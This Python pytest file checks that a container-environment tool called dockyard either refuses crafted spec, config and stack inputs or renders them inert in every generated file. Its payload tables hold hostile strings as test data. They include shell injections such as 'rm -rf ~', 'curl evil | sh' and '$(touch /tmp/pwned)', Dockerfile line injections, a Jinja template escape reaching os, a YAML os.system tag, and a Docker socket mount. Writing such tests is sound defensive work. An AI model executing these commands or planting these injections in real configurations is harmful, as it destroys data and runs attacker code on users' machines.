"""A hostile corpus: crafted specs, site configs and stacks, pushed through validation, every generator and the CLI.

Data, not code: payload classes (shell, Dockerfile lines, consumer substitution, Jinja, terminal, YAML structure,
size, credentials, host paths) × the fields a user sets. Each case ends in one of two ways: refused with one
paragraph (DockyardError: no traceback), or accepted with the payload inert in every generated file (read back by
its consumer, tests/consumers.py, it is the same value and adds nothing). Every case runs under a time check and
an address-space limit; generation into a folder is all-or-nothing.
"""

from __future__ import annotations

import os
import re
import shutil
import time
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import json5
import kubernetes_validate
import pytest
import yaml

from dockyard import cli, config, specs
from dockyard.config import BuildOptions
from dockyard.errors import DockyardError
from dockyard.frontends import compose, devcontainer
from dockyard.frontends.k8s import kernelspecs, pipeline
from dockyard.frontends.k8s.manifest_parts import K8sOptions, dump, header
from dockyard.images import context, render
from dockyard.kernel import kernelspec
from dockyard.specs.data_entries import host_path_parts
from dockyard.specs.stacks import Stack, load_all_stacks

from .consumers import (
    DEVCONTAINER_VARIABLE,
    env_assignments,
    instructions,
    interpolate,
    jupyter_client_env,
    kubelet,
    launcher,
    strings,
)
from .helpers import REPO, assert_one_paragraph, bounded_memory

CASE_SECONDS = 5.0
# A case that hangs (a FIFO opened, /dev/zero hashed forever) fails here instead of stalling the run.
pytestmark = pytest.mark.timeout(60)
MINIMAL = yaml.safe_load((REPO / "envs" / "minimal.yaml").read_text())
# What a terminal, a bidi renderer or Rich would act on, if printed raw.
TERMINAL_LIVE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\u061c\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]")

PAYLOADS: dict[str, list[str]] = {
    "shell": ['X" $(touch /tmp/pwned) "', "`id`", "'; rm -rf ~ #", "$(id)", "a && curl evil | sh", "\\"],
    "lines": ["a\nRUN touch /tmp/pwned", "a\r\nUSER root", "a\u2028b", "a\x85b", "a\\\nRUN id", "\n"],
    "substitution": ["${JUPYTER_TOKEN}", "$HOME", "${localEnv:HOME}", "${HOME:?stop}", "$$", "${containerEnv:PATH}"],
    "jinja": ["{{ cycler.__init__.__globals__.os.getpid() }}", "{#", "{% raw %}", "{{ 7*7 }}", "}}{{"],
    "terminal": ["\x1b[2J\x1b]0;pwned\x07", "\u202eexe.txt", "a\x00b", "[red]x[/]", "[/]", "a\u200bb", "\ufeff"],
    "yaml": ["a: b", "- x", "!!python/object/apply:os.system ['id']", "*alias", "? x", "---", '"', "#c"],
    "unicode": ["Ünïcödé 😀", "𐀀", "日本語", "\U0001f600\u200d\U0001f4bb"],
    "size": ["A" * 100_000],
}
# (field, how to set it in the spec's data); keys are dotted paths into the YAML document.
SPEC_FIELDS: dict[str, Callable[[dict[str, Any], str], None]] = {
    "display_name": lambda d, v: d.__setitem__("display_name", v),
    "description": lambda d, v: d.__setitem__("description", v),
    "kernel.env value": lambda d, v: d.setdefault("kernel", {}).setdefault("env", {}).__setitem__("CRAFTED", v),
    "env value": lambda d, v: d.setdefault("env", {}).__setitem__("CRAFTED", v),
    "variants.cpu.description": lambda d, v: d["variants"]["cpu"].__setitem__("description", v),
    "variants.cpu.pip_extra_index_urls": lambda d, v: d["variants"]["cpu"].__setitem__(
        "pip_extra_index_urls", [f"https://idx.example/{v}"]
    ),
    "system_packages": lambda d, v: d.__setitem__("system_packages", [v]),
    "python_packages": lambda d, v: d["python_packages"].append(f"x=={v}"),
    "variants.cpu.base": lambda d, v: d["variants"]["cpu"].__setitem__("base", v),
    "env name": lambda d, v: d.setdefault("env", {}).__setitem__(v or "X", "1"),
    # docs/data-and-secrets.md: host paths keep plain $NAME / ~ (each front end's own expansion), nothing else
    "mounts.source": lambda d, v: d.__setitem__("mounts", [{"source": f"/data/{v}", "target": "/data"}]),
    "mounts.target": lambda d, v: d.__setitem__("mounts", [{"source": "/srv/data", "target": f"/data/{v}"}]),
    "mounts.cache": lambda d, v: d.__setitem__("mounts", [{"cache": v or "x", "target": "/cache/x"}]),
    "secrets.name": lambda d, v: d.__setitem__("secrets", [{"name": v or "x", "from_env": "TOKEN"}]),
    "secrets.from_file": lambda d, v: d.__setitem__("secrets", [{"name": "t", "from_file": f"/secrets/{v}"}]),
    "secrets.from_env": lambda d, v: d.__setitem__("secrets", [{"name": "t", "from_env": v or "X"}]),
    "secrets.env": lambda d, v: d.__setitem__("secrets", [{"name": "t", "from_env": "TOKEN", "env": v or "X"}]),
    "secrets.from_keyring": lambda d, v: d.__setitem__(
        "secrets", [{"name": "t", "from_keyring": {"service": v or "s", "username": v or "u"}}]
    ),
}
# Every field gets the classes that matter most to it; the free-text fields get them all.
FREE_TEXT = ("display_name", "description", "kernel.env value", "env value", "variants.cpu.description")
SPEC_CASES = [
    pytest.param(field, payload, id=f"{field}-{cls}-{i}")
    for field in SPEC_FIELDS
    for cls, payloads in PAYLOADS.items()
    if field in FREE_TEXT or cls in ("shell", "lines", "substitution", "jinja", "terminal")
    for i, payload in enumerate(payloads)
]


def timed(call: Callable[[], Any]) -> Any:
    start = time.perf_counter()
    with bounded_memory():
        try:
            result = call()
        except DockyardError as exc:
            result = exc
    elapsed = time.perf_counter() - start
    assert elapsed < CASE_SECONDS, f"took {elapsed:.2f} s"
    return result


def refused_or(result: Any, path: Path | None = None) -> bool:
    """True (and checked) when result is a refusal: one paragraph, naming path when given."""
    if isinstance(result, DockyardError):
        assert_one_paragraph(result.text, *([str(path)] if path else []))
        return True
    return False


# ------------------------------------------------------------------------------------------ specs


def generated_is_inert(spec: specs.Spec, tmp_path: Path) -> None:
    """Every generator's output for spec, read back by its consumer: the spec's values, nothing added."""
    kernel_env = dict(spec.kernel["env"])
    baseline = [i.split()[0] for i in instructions(render.dockerfile(*_plain(), BuildOptions(), has_ca=False,
                                                                     has_pip_conf=False))]  # fmt: skip
    for variant in spec.variants.values():
        result = timed(lambda v=variant: render.dockerfile(spec, v, BuildOptions(), has_ca=False, has_pip_conf=False))
        if not refused_or(result, spec.path):
            got = instructions(result)
            assert [i.split()[0] for i in got] == baseline
            runtime = env_assignments(got[-2])
            assert {k: runtime[k] for k in variant.env_vars} == variant.env_vars
        data = yaml.safe_load(kernelspec.files(spec, variant)[kernelspec.KERNEL_JSON])
        assert jupyter_client_env(data["env"], {"JUPYTER_TOKEN": "LEAKED", "HOME": "LEAKED"}) == kernel_env
        result = timed(lambda v=variant: devcontainer.render(spec, v, REPO))
        if not refused_or(result, spec.path):
            dc = json5.loads(result.decode())
            assert not [s for s in strings({**dc, "mounts": []}) if DEVCONTAINER_VARIABLE.search(s)]
            assert dc["containerEnv"] == kernel_env
            mounts_are_the_specs(spec, dc.get("mounts", []))
        lab = timed(lambda v=variant: compose.render_lab(spec, v))
        if not refused_or(lab, spec.path):
            folder = compose.lab_folder(spec, variant)
            service = yaml.safe_load(lab[f"{folder}/compose.yaml"])["services"]["lab"]
            env = {k: interpolate(v, frozenset({"DOCKYARD_LAB_TOKEN"})) for k, v in service["environment"].items()}
            assert {k: env[k] for k in kernel_env} == kernel_env
            compose_data_is_the_specs(spec, yaml.safe_load(lab[f"{folder}/compose.yaml"]))
            kinds = [i.split()[0] for i in instructions(lab[f"{folder}/Dockerfile"].decode())]
            assert kinds == ["ARG", "FROM", "USER", "RUN"]
        folder = tmp_path / f"k8s-{variant.name}"
        folder.mkdir()
        for rel, blob in kernelspecs.files(spec, variant, K8sOptions()).items():
            (folder / Path(rel).name).write_bytes(blob)
        mod = launcher()
        values = {**mod.keywords({"KERNEL_ID": "k", "KERNEL_POD_NAME": "p", "KERNEL_NAMESPACE": "dockyard",
                                  "KERNEL_IMAGE": "i"}), "pod": mod.pod_values(folder)}  # fmt: skip
        pod = yaml.safe_load(mod.render(values, REPO / "k8s" / "launcher"))
        container = pod["spec"]["containers"][0]
        defined = {"KERNEL_ID": "LEAKED", "HOME": "LEAKED"}
        assert {e["name"]: kubelet(e["value"], defined) for e in container["env"][2:]} == kernel_env
        kubernetes_validate.validate(pod, "1.34.0", strict=True)


def _expanded(text: str, syntax: str) -> str:
    """A host path as its consumer reads it, every variable NAME (and ~: HOME) standing for /v/NAME."""
    text = re.sub(r"\$\{localEnv:([A-Za-z_][A-Za-z0-9_]*)\}" if syntax == "devcontainer" else r"\$\{([A-Za-z_]\w*)\}",
                  r"/v/\1", text)  # fmt: skip
    return text.replace("$$", "$") if syntax == "compose" else text


def _spec_path(text: str) -> str:
    return "".join(p if kind == "text" else f"/v/{p}" for kind, p in host_path_parts(text))


def mounts_are_the_specs(spec: specs.Spec, mounts: list[str]) -> None:
    """Each devcontainer mount splits into exactly its options, the spec's paths once expanded."""
    assert len(mounts) == len(spec.mounts)
    for text, m in zip(mounts, spec.mounts, strict=True):
        options = text.split(",")
        fields = dict(o.split("=", 1) for o in options if "=" in o)
        assert set(fields) == {"type", "source", "target"}
        assert [o for o in options if "=" not in o] == (["readonly"] if m.read_only else [])
        if m.source is not None:
            assert _expanded(fields["source"], "devcontainer") == _spec_path(m.source)
        assert _expanded(fields["target"], "devcontainer") == _spec_path(m.target or str(m.source))


def compose_data_is_the_specs(spec: specs.Spec, data: dict[str, Any]) -> None:
    lab = data["services"]["lab"]
    variables = frozenset(n for m in spec.mounts if m.source for kind, n in host_path_parts(m.source) if kind == "var")
    variables |= frozenset(
        n for s in spec.secrets if s.source[0] == "file" for k, n in host_path_parts(s.source[1]) if k == "var"
    )
    volumes = [interpolate(v, variables | {"DOCKYARD_WORKSPACE"}) for v in lab["volumes"][1:]]
    for text, m in zip(volumes, spec.mounts, strict=True):
        parts = text.split(":")
        assert len(parts) == (3 if m.read_only else 2)
        if m.source is not None:
            assert _expanded(parts[0], "compose") == _spec_path(m.source)
    sources = dict(data.get("secrets", {}).items())
    assert sorted(sources) == sorted(s.name for s in spec.secrets if s.source[0] != "keyring")
    for s in spec.secrets:
        if s.source[0] == "file":
            assert _expanded(interpolate(sources[s.name]["file"], variables), "compose") == _spec_path(s.source[1])
        elif s.source[0] == "env":
            assert sources[s.name] == {"environment": s.source[1]}


def _plain() -> tuple[specs.Spec, specs.Variant]:
    spec = specs.load("minimal")
    return spec, spec.variants["cpu"]


def write_spec(tmp_path: Path, data: dict[str, Any]) -> Path:
    folder = tmp_path / "envs"
    folder.mkdir(exist_ok=True)
    path = folder / "minimal.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return path


@pytest.mark.parametrize(("field", "payload"), SPEC_CASES)
def test_spec_payload_is_refused_or_inert(
    field: str, payload: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    data = yaml.safe_load(yaml.safe_dump(MINIMAL))
    SPEC_FIELDS[field](data, payload)
    path = write_spec(tmp_path, data)
    result = timed(lambda: specs.load_file(path))
    if refused_or(result):
        assert str(path) in result.text  # names the file
    else:
        generated_is_inert(result, tmp_path)
    # The CLI shows the spec (or the refusal) with nothing a terminal or Rich would act on.
    monkeypatch.setenv("DOCKYARD_ENVS_PATH", str(path.parent))
    monkeypatch.setenv("COLUMNS", "200")
    capsys.readouterr()
    for argv in (["env", "validate", str(path)], ["env", "show", "minimal"], ["env", "list"]):
        code = timed(lambda a=argv: cli.main(a))
        assert isinstance(code, int), argv
        out = capsys.readouterr()
        assert not TERMINAL_LIVE.search(out.out + out.err), (argv, out)
        assert "Traceback" not in out.err


def test_generate_into_a_folder_is_all_or_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A spec one consumer cannot carry (`${` for devcontainer.json) stops generation before any file is written."""
    data = yaml.safe_load(yaml.safe_dump(MINIMAL))
    data.setdefault("kernel", {})["env"] = {"CRAFTED": "${localEnv:HOME}"}
    write_spec(tmp_path, data)
    monkeypatch.setenv("DOCKYARD_ENVS_PATH", str(tmp_path / "envs"))
    out = tmp_path / "workspace"
    out.mkdir()
    assert cli.main(["devcontainer", "generate", "--workspace", str(out)]) != 0
    assert not any(out.rglob("*"))


# ------------------------------------------------------------------------------------------ site config


def _fifo(tmp_path: Path) -> str:
    path = tmp_path / "fifo.pem"
    os.mkfifo(path)
    return str(path)


def _big(tmp_path: Path) -> str:
    path = tmp_path / "big.pem"
    with path.open("wb") as f:
        f.truncate(5 * 1024 * 1024)  # sparse: 5 MB in size, nothing on disk
    return str(path)


def _many(tmp_path: Path) -> str:
    folder = tmp_path / "certs"
    folder.mkdir()
    for i in range(2001):
        (folder / f"{i}.pem").touch()
    return str(folder)


def _engine_dir(tmp_path: Path) -> str:
    return str(Path("/var/run/docker.sock").parent)


CONFIG_CASES: dict[str, Callable[[Path], dict[str, Any]]] = {
    "ca /dev/zero": lambda t: {"build": {"ca_certs": ["/dev/zero"]}},
    "ca /dev/urandom": lambda t: {"build": {"ca_certs": ["/dev/urandom"]}},
    "ca /dev/stdin": lambda t: {"build": {"ca_certs": ["/dev/stdin"]}},
    "ca /proc/self/mem": lambda t: {"build": {"ca_certs": ["/proc/self/mem"]}},
    "ca /proc/kmsg": lambda t: {"build": {"ca_certs": ["/proc/kmsg"]}},
    "ca /sys file": lambda t: {"build": {"ca_certs": ["/sys/kernel/mm/transparent_hugepage/enabled"]}},
    "ca /proc folder": lambda t: {"build": {"ca_certs": ["/proc/self"]}},
    "ca fifo": lambda t: {"build": {"ca_certs": [_fifo(t)]}},
    "ca 5 MB": lambda t: {"build": {"ca_certs": [_big(t)]}},
    "ca 2001 files": lambda t: {"build": {"ca_certs": [_many(t)]}},
    "ca missing": lambda t: {"build": {"ca_certs": [str(t / "nope.pem")]}},
    "ca NUL": lambda t: {"build": {"ca_certs": ["/etc/ssl\x00/x"]}},
    "wheelhouse /dev/null": lambda t: {"build": {"wheelhouse": "/dev/null"}},
    "wheelhouse file": lambda t: {"build": {"wheelhouse": "/etc/hostname"}},
    "root /": lambda t: {"kernels": {"workspace_root": "/"}},
    "root /etc": lambda t: {"kernels": {"workspace_root": "/etc"}},
    "root /var/run": lambda t: {"kernels": {"workspace_root": "/var/run"}},
    "root /proc/1": lambda t: {"kernels": {"workspace_root": "/proc/1"}},
    "root /home": lambda t: {"kernels": {"workspace_root": "/home"}},
    "root /usr/local": lambda t: {"kernels": {"workspace_root": "/usr/local"}},
    "root engine dir": lambda t: {"kernels": {"workspace_root": _engine_dir(t)}},
    "root socket": lambda t: {"kernels": {"workspace_root": "/var/run/docker.sock"}},
    "index user:token": lambda t: {"build": {"pip_index_url": "https://me:s3cr3tTOKEN@idx.example/simple"}},
    "index token@": lambda t: {"build": {"pip_index_url": "https://s3cr3tTOKEN@idx.example/simple"}},
    "extra user:token": lambda t: {"build": {"pip_extra_index_urls": ["https://me:s3cr3tTOKEN@idx.example/s"]}},
    "index newline": lambda t: {"build": {"pip_index_url": "https://idx.example/\n[global]\nindex-url=http://evil"}},
    "index shell": lambda t: {"build": {"pip_index_url": "https://idx.example/$(touch${IFS}/tmp/pwned)"}},
    "pool float": lambda t: {"kernels": {"pool": {"size": 2.0}}},
    "pool huge": lambda t: {"kernels": {"pool": {"size": 10**5000 if False else 99999999999}}},
    "override newline": lambda t: {"base_overrides": {"python:3.11-slim-bookworm": "x\nRUN id"}},
    "override shell": lambda t: {"base_overrides": {"python:3.11-slim-bookworm": "x $(id)"}},
    "proxy newline": lambda t: {"build": {"proxy": {"http": "http://p:3128\nRUN id"}}},
}


@pytest.mark.parametrize("case", CONFIG_CASES)
def test_config_payload_is_refused_or_inert(case: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "config.yaml"
    path.write_text(yaml.safe_dump(CONFIG_CASES[case](tmp_path)))
    monkeypatch.setenv("DOCKYARD_CONFIG", str(path))
    for name in [n for n in os.environ if n.startswith("DOCKYARD_") and n != "DOCKYARD_CONFIG"]:
        monkeypatch.delenv(name)
    result = timed(config.load_settings)
    if refused_or(result):
        assert "s3cr3tTOKEN" not in result.text  # a credential is masked in the message too
        return
    certificates = timed(lambda: context.ca_certificates(result.build))  # reads every CA file the settings name
    if refused_or(certificates):
        return
    text = timed(lambda: render.dockerfile(*_plain(), result.build, has_ca=False, has_pip_conf=False))
    if not refused_or(text):
        assert "s3cr3tTOKEN" not in text
        assert [i.split()[0] for i in instructions(text)] == [
            i.split()[0] for i in instructions(render.dockerfile(*_plain(), BuildOptions(), has_ca=False,
                                                                 has_pip_conf=False))]  # fmt: skip


# ------------------------------------------------------------------------------------------ stacks

STACK_CASES: dict[str, Callable[[dict[str, Any]], None]] = {
    "volume docker.sock": lambda d: d["services"]["store"].__setitem__(
        "volumes", {"pgdata": "/var/run/docker.sock:/var/run/docker.sock:rw"}
    ),
    "volume newline": lambda d: d["services"]["store"].__setitem__("volumes", {"pgdata": "/data\n- /:/host"}),
    "volume host path key": lambda d: d["services"]["store"].__setitem__("volumes", {"/etc": "/data"}),
    "volume relative": lambda d: d["services"]["store"].__setitem__("volumes", {"pgdata": "../../etc"}),
    "port 5000 digits": lambda d: d["client"].__setitem__("PGPORT", "{port:store:" + "9" * 5000 + "}"),
    "description ESC": lambda d: d.__setitem__("description", "\x1b[2Jcleared"),
    "description bidi": lambda d: d.__setitem__("description", "\u202eevil"),
    "env ${HOME:?stop}": lambda d: d["services"]["store"]["environment"].__setitem__("X", "${HOME:?stop}"),
    "env $(id)": lambda d: d["services"]["store"]["environment"].__setitem__("X", "$(id)"),
    "env newline": lambda d: d["services"]["store"]["environment"].__setitem__("X", "a\nb: c"),
    "env jinja": lambda d: d["services"]["store"]["environment"].__setitem__("X", "{{ 7*7 }}"),
    "command ${VAR}": lambda d: d["services"]["trainer"].__setitem__("command", ["echo", "${DB_PASSWORD}"]),
    "healthcheck $": lambda d: d["services"]["store"].__setitem__("healthcheck", ["sh", "-c", "test $$ -gt 0"]),
    "service name yaml": lambda d: d["services"].__setitem__("a: b", {"env": "minimal"}),
    "env name dollar": lambda d: d["services"]["store"]["environment"].__setitem__("$X", "1"),
    "user shell": lambda d: d["services"]["store"].__setitem__("user", "root; id"),
}


@pytest.mark.parametrize("case", STACK_CASES)
def test_stack_payload_is_refused_or_inert(case: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "stacks" / "pipeline"
    shutil.copytree(REPO / "stacks" / "pipeline", folder)
    data = yaml.safe_load((folder / "stack.yaml").read_text())
    STACK_CASES[case](data)
    (folder / "stack.yaml").write_text(yaml.safe_dump(data, allow_unicode=True))
    monkeypatch.setenv("DOCKYARD_STACKS_PATH", str(tmp_path / "stacks"))
    load_all_stacks.cache_clear() if hasattr(load_all_stacks, "cache_clear") else None
    result = timed(lambda: next(s for s in load_all_stacks() if s.name == "pipeline"))
    if refused_or(result):
        return
    assert result.dir == folder
    files = compose.render_stack(result, tmp_path / "compose")
    doc = yaml.safe_load(files["pipeline/compose.yaml"])
    for name, service in doc["services"].items():
        source = result.services[name]
        got_env = {k: interpolate(v) for k, v in service.get("environment", {}).items() if k in source.environment}
        assert got_env == source.environment
        for volume in service.get("volumes", []):
            assert not volume.startswith("/"), volume  # named volumes and the stack's own files only
        if source.command:
            assert [interpolate(c) for c in service["command"]] == list(source.command)
    manifests = timed(lambda: pipeline.manifests(result, K8sOptions()))
    if refused_or(manifests):
        assert str(result.path) in manifests.text  # names the file
        return
    for objects in manifests.values():
        for obj in objects:
            assert obj == yaml.safe_load(yaml.safe_dump(obj))


# ------------------------------------------------------------------------------------------ the lab's workspace

WORKSPACES: dict[str, Callable[[Path], Path]] = {
    "/": lambda t: Path("/"),
    "/etc": lambda t: Path("/etc"),
    "/var/run": lambda t: Path("/var/run"),
    "/home": lambda t: Path("/home"),
    "colon": lambda t: t / "a:b",
    "newline": lambda t: t / "a\nb",
    "project": lambda t: t / "project",
}


@pytest.mark.parametrize("case", WORKSPACES)
def test_lab_workspace_is_refused_or_mounted_as_given(case: str, tmp_path: Path) -> None:
    from dockyard.frontends.compose_run import Target, variables

    folder = WORKSPACES[case](tmp_path)
    if str(folder).startswith(str(tmp_path)):
        folder.mkdir()
    spec, variant = _plain()
    target = Target(compose.lab_folder(spec, variant), spec=spec, variant=variant)
    state = {"secrets": {"lab_token": "t"}}
    result = timed(
        lambda: variables(target, BuildOptions(), {"lab": "dockyard/minimal:cpu-x"}, state, workspace=folder)
    )
    if refused_or(result):
        assert case != "project"
        return
    assert case == "project"
    assert result["DOCKYARD_WORKSPACE"] == str(folder)


@pytest.mark.parametrize("where", ["env", "kernel.env", "variants.cpu.env"])
@pytest.mark.parametrize("name", ["DOCKYARD_ENV", "DOCKYARD_VARIANT", "DOCKYARD_ANYTHING"])
def test_spec_cannot_set_dockyards_own_variables(where: str, name: str, tmp_path: Path) -> None:
    """The image's DOCKYARD_* variables say which environment it is (the panel and kernels read them)."""
    data = yaml.safe_load(yaml.safe_dump(MINIMAL))
    target = data
    for key in where.split("."):
        target = target.setdefault(key, {})
    target[name] = "pytorch"
    path = write_spec(tmp_path, data)
    result = timed(lambda: specs.load_file(path))
    assert refused_or(result, path)
    assert "DOCKYARD_" in result.text


BUILD_FOLDER_CASES: dict[str, Callable[[Path], None]] = {
    "link to /dev/zero": lambda d: (d / "zero.bin").symlink_to("/dev/zero"),
    "link to /proc/self/mem": lambda d: (d / "mem").symlink_to("/proc/self/mem"),
    "fifo": lambda d: os.mkfifo(d / "pipe"),
    "broken link (kept, as Docker keeps it)": lambda d: (d / "gone").symlink_to(d / "nowhere"),
}


def _copied_pipeline(tmp_path: Path) -> tuple[Path, Stack]:
    """The shipped pipeline stack copied under tmp_path (where the tests point the stacks path), loaded."""
    folder = tmp_path / "stacks" / "pipeline"
    shutil.copytree(REPO / "stacks" / "pipeline", folder)
    return folder, next(s for s in load_all_stacks() if s.name == "pipeline")


@pytest.mark.parametrize("case", BUILD_FOLDER_CASES)
def test_stack_build_folder_is_hashed_or_refused(case: str, tmp_path: Path) -> None:
    """The content tag of a stack's own image reads its build folder: never a device, a FIFO or /proc."""
    folder, stack = _copied_pipeline(tmp_path)
    store = stack.services["store"]
    assert store.build_context is not None
    context_dir = folder / store.build_context.name
    before = compose.stack_build_tag(stack, replace(store, build_context=context_dir), BuildOptions())
    BUILD_FOLDER_CASES[case](context_dir)
    service = replace(store, build_context=context_dir)
    result = timed(lambda: compose.stack_build_tag(stack, service, BuildOptions()))
    if refused_or(result, stack.path):
        assert "broken" not in case
    else:
        assert "broken" in case
        assert result == before


FILES_FOLDER_CASES: dict[str, Callable[[Path], None]] = {
    "link to /proc/self/mem": lambda d: (d / "mem.py").symlink_to("/proc/self/mem"),
    "link to /dev/zero": lambda d: (d / "zero.py").symlink_to("/dev/zero"),
    "fifo": lambda d: os.mkfifo(d / "pipe.py"),
    "binary": lambda d: (d / "blob.bin").write_bytes(b"\xff\xfe\x00\x80"),
    "2 MB": lambda d: (d / "big.txt").write_text("x" * 2_000_000),
    "text with odd characters (kept)": lambda d: (d / "ok.txt").write_text("{{ 7*7 }} $(id) \u202e\n---\n"),
}


@pytest.mark.parametrize("case", FILES_FOLDER_CASES)
def test_stack_files_folder_becomes_a_configmap_or_is_refused(case: str, tmp_path: Path) -> None:
    """`k8s generate` puts a stack's files folder into a ConfigMap: text only, bounded, never a device or /proc."""
    folder, stack = _copied_pipeline(tmp_path)
    trainer = stack.services["trainer"]
    assert trainer.files is not None
    files = folder / trainer.files.name
    FILES_FOLDER_CASES[case](files)
    stack = replace(stack, services={**stack.services, "trainer": replace(trainer, files=files)})
    result = timed(lambda: pipeline.manifests(stack, K8sOptions()))
    if refused_or(result, stack.path):
        assert "kept" not in case
        return
    assert "kept" in case
    (configmap,) = [o for o in result["trainer.yaml"] if o["kind"] == "ConfigMap"]
    assert configmap["data"]["ok.txt"] == "{{ 7*7 }} $(id) \u202e\n---\n"
    assert configmap in yaml.safe_load_all(dump(header("x"), *result["trainer.yaml"]))
